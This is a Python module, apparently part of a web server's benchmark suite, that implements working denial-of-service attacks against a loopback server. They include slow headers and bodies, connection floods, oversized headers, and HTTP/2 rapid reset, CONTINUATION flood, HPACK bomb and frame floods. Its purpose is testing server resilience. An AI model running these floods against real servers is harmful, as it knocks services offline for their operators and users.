"""The attacks of `benches/under_attack`: each is a function that goes on until its process is ended. Loopback only.

An attack connects from 127.0.0.2, so that it is one address and the canary another, and keeps a bounded number of connections.
"""

import os
import selectors
import socket
import struct
import time

ATTACKER = "127.0.0.2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def connect(port, receive_buffer=None):
    link = socket.socket()
    if receive_buffer:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    link.settimeout(5)
    link.bind((ATTACKER, 0))
    link.connect(("127.0.0.1", port))
    link.setblocking(False)
    return link


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(*fields):
    """Literals without indexing; texts below 127 bytes."""
    return b"".join(b"\0" + b"".join(bytes([len(text)]) + text for text in field) for field in fields)


def request(path, method=b"GET"):
    return block((b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"g"))


def get(stream, path):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


# --- Many connections. `keep` holds so many open, says `hello` on each, and `more` on each of them every so often.


def keep(port, count, hello=b"", more=b"", every=0.2, receive_buffer=None, read=0):
    links, next_round = [], 0.0
    while True:
        for _ in range(min(50, count - len(links))):
            try:
                link = connect(port, receive_buffer)
                link.send(hello)
                links.append(link)
            except OSError:
                time.sleep(0.01)
        if time.monotonic() < next_round:
            time.sleep(0.02)
            continue
        next_round = time.monotonic() + every
        links = [link for link in links if goes_on(link, more, read)]


def goes_on(link, more, read):
    """Sends and reads a little; False when the other side is gone."""
    try:
        if more:
            link.send(more)
        if read != 0 and not link.recv(read):
            raise ConnectionError
    except BlockingIOError:
        pass
    except OSError:
        link.close()
        return False
    return True


def idle(port):
    keep(port, 900, b"GET / HTTP/1.1\r\nHost: g\r\n\r\n", read=4096)


def idle_too_many(port):
    """More than an address may have, so that for each newcomer another one goes."""
    keep(port, 1500, b"GET / HTTP/1.1\r\nHost: g\r\n\r\n", read=4096)


def slow_heads(port):
    keep(port, 900, b"GET / HTTP/1.1\r\nHost: g\r\n", b"X: y\r\n", read=4096)


def slow_bodies(port):
    keep(port, 400, b"POST / HTTP/1.1\r\nHost: g\r\nContent-Length: 999999\r\n\r\n", b"x", read=4096)


def slow_readers(port):
    keep(port, 100, b"GET /large HTTP/1.1\r\nHost: g\r\n\r\n", receive_buffer=4096, read=16)


def churn(port):
    """Connections that end at once; reset, so that no port waits."""
    while True:
        try:
            link = connect(port)
            link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            link.close()
        except OSError:
            time.sleep(0.01)


def more_than_fit(port):
    """More connections than there are places, with a request that hangs on each, and newcomers all the time."""
    keep(port, 3000, b"GET /hang HTTP/1.1\r\nHost: g\r\n\r\n", every=0.05, read=4096)


def garbage(port):
    repeat(port, lambda: os.urandom(512) + b"\r\n\r\n")


def huge_heads(port):
    head = b"GET / HTTP/1.1\r\nHost: g\r\n" + b"".join(b"X%d: %s\r\n" % (n, b"y" * 900) for n in range(99)) + b"\r\n"
    repeat(port, lambda: head)


# --- One connection after the other, each as fast as it takes the bytes.


def repeat(port, attack, links=8):
    """Keeps some connections busy with `attack()`, reading and forgetting what comes back."""
    selector = selectors.DefaultSelector()
    while True:
        while len(selector.get_map()) < links:
            try:
                selector.register(connect(port), selectors.EVENT_READ | selectors.EVENT_WRITE, bytearray(attack()))
            except OSError:
                time.sleep(0.01)
                break
        for key, ready in selector.select(0.1):
            link, pending = key.fileobj, key.data
            try:
                if ready & selectors.EVENT_READ and not link.recv(65536):
                    raise ConnectionError
                if ready & selectors.EVENT_WRITE:
                    if not pending:
                        time.sleep(0.0005)
                    del pending[:link.send(pending)]
            except BlockingIOError:
                pass
            except OSError:
                selector.unregister(link)
                link.close()


def flood(port, first, each, times=20_000):
    repeat(port, lambda: PREFACE + frame(SETTINGS, 0, 0) + first + each * times)


def streams(attack, count=5000):
    return b"".join(attack(1 + 2 * number) for number in range(count))


def rapid_reset(port):
    attack = streams(lambda stream: get(stream, b"/hang") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
    flood(port, attack, b"", 0)


def made_you_reset(port):
    attack = streams(lambda stream: get(stream, b"/hang") + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
    flood(port, attack, b"", 0)


def pings(port):
    flood(port, b"", frame(PING, 0, 0, b"12345678"))


def settings(port):
    flood(port, b"", frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"))


def priorities(port):
    flood(port, b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\1"))


def empty_data(port):
    flood(port, frame(HEADERS, END_HEADERS, 1, request(b"/", b"POST")), frame(DATA, 0, 1))


def continuations(port):
    flood(port, frame(HEADERS, END_STREAM, 1, request(b"/")), frame(CONTINUATION, 0, 1, block((b"a", b"b"))))


def hpack_bombs(port):
    bomb = request(b"/") + b"\x40\x04bomb\x7f" + bytes([(4000 - 127) % 128 + 128, (4000 - 127) // 128]) + b"x" * 4000
    bomb += b"\xbe" * (16_000 - len(bomb))
    flood(port, frame(HEADERS, END_STREAM | END_HEADERS, 1, bomb), b"", 0)


def unread_streams(port):
    most = struct.pack(">I", 2**31 - 1)
    hello = PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + most) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 65536))
    keep(port, 10, hello + streams(lambda stream: get(stream, b"/large"), 50), receive_buffer=4096)


ALL = {
    attack.__name__.replace("_", " "): attack
    for attack in [
        idle, idle_too_many, slow_heads, slow_bodies, slow_readers, churn, more_than_fit, garbage, huge_heads, rapid_reset, made_you_reset,
        pings, settings, priorities, empty_data, continuations, hpack_bombs, unread_streams,
    ]
}
